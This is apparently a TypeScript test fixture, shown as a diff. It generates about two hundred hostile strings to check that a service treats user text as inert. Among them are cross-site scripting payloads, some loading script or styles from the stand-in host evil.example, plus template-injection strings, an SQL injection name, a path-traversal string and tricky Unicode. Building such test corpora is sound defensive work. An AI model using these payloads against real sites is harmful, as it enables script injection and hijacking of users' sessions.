@@ -1,0 +1,120 @@
+/** Texts that try to become more than text: 200 of them, each accepted by the service, each different. */
+
+const HIT = 'window.__hit=1';
+
+/** What a browser runs if it is ever taken for markup, an address, a style or a template. */
+const PAYLOADS = [
+  `<script>${HIT}</script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<img src=x onerror=${HIT}>`,
+  `<img src=//evil.example/pixel.png>`,
+  `<svg onload=${HIT}>`,
+  `<svg><script>${HIT}</script></svg>`,
+  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
+  `<math><mtext><style><img src=x onerror=${HIT}></style>`,
+  `<body onload=${HIT}>`,
+  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.__hit=1"></iframe>`,
+  `<input autofocus onfocus=${HIT}>`,
+  `<details open ontoggle=${HIT}>x</details>`,
+  `<video><source onerror=${HIT}></video>`,
+  `<a href="javascript:${HIT}">Soup</a>`,
+  `<form action="javascript:${HIT}"><button>Soup</button></form>`,
+  `<object data="javascript:${HIT}"></object>`,
+  `<embed src="javascript:${HIT}">`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import '//evil.example/x.css'; *{display:none}</style>`,
+  `<template><script>${HIT}</script></template>`,
+  `<div style="background:url(//evil.example/x)">`,
+  `javascript:${HIT}`,
+  `data:text/html,<script>${HIT}</script>`,
+  `{{constructor.constructor('${HIT}')()}}`,
+  `\${${HIT}}`,
+  `#{${HIT}}`,
+  `<%= ${HIT} %>`,
+  `{name, plural, one {#} other {<0>#</0>}}`,
+  `{email} {name} {count}`,
+  `<0>Soup</0>`,
+  `'{'`,
+  `__proto__`,
+  `constructor`,
+  `&lt;script&gt;${HIT}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${HIT}&#62;`,
+  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
+  `%3Cscript%3E${HIT}%3C/script%3E`,
+];
+
+/** Ways out of wherever a text may have been put. */
+const WRAPPINGS: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `"'>${text}`,
+  (text) => `--></title></textarea></style></script>${text}<!--`,
+  (text) => `\u202e${text}\u202c\u2066x`,
+];
+
+/** Nothing to run, but much to break. */
+const ODDITIES = [
+  'null',
+  'undefined',
+  'NaN',
+  '-1',
+  'true',
+  '[object Object]',
+  "Robert'); DROP TABLE plans;--",
+  '\u202eevas\u202c',
+  '\u2067\u2066\u2069\u2068x',
+  'a\u200bb\u200cc\u200dd\ufeffe',
+  'Z\u0351\u036b\u0343\u036aa\u0302\u036b\u0343l\u0322\u0327g\u0328\u0321o\u035c',
+  'e\u0301'.repeat(50),
+  '👩‍👩‍👧‍👦🍕🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪👍🏿',
+  '🍲'.repeat(500),
+  'W'.repeat(500),
+  `${'long '.repeat(99)}words`,
+  'tab\there',
+  'line\nfeed',
+  'next\u0085line, \u2028line\u2029paragraph',
+  '\u0080\u009f\u009b31mcontrol',
+  '\u00a0no\u00a0break\u00a0',
+  '\ufff9\ufffa\ufffb\ufffd\uffff',
+  '\u{10ffff}\u{e0001}\u{1d173}',
+  'שלום עולם עם English באמצע',
+  'مرحبا ١٢٣ and back',
+  '日本語のごはん、味噌汁、焼き魚',
+  'ﷺﷺﷺﷺ',
+  '../../../etc/passwd',
+  '/\\/\\evil.example',
+  'http://evil.example/ evil@evil.example +1 555 0100',
+  '<',
+  '>',
+  '&',
+  '&amp;',
+  '"',
+  "'",
+  '`',
+  '<!--',
+  ']]>',
+  '<![CDATA[x]]>',
+];
+
+export const HOSTILE_TEXTS = [
+  ...PAYLOADS.flatMap((text) => WRAPPINGS.map((wrap) => wrap(text))),
+  ...ODDITIES,
+].map((text) => text.trim());
+
+/** As a name, which is shorter. */
+export function asName(text: string): string {
+  return Array.from(text).slice(0, 100).join('').trim();
+}
+
+/** The texts as names, several in one where they fit. */
+export function packed(texts: string[]): string[] {
+  const names: string[] = [];
+  for (const text of texts.map(asName)) {
+    const together = `${names.at(-1) ?? ''} ${text}`.trim();
+    if (names.length > 0 && Array.from(together).length <= 100) names[names.length - 1] = together;
+    else names.push(text);
+  }
+  return names;
+}
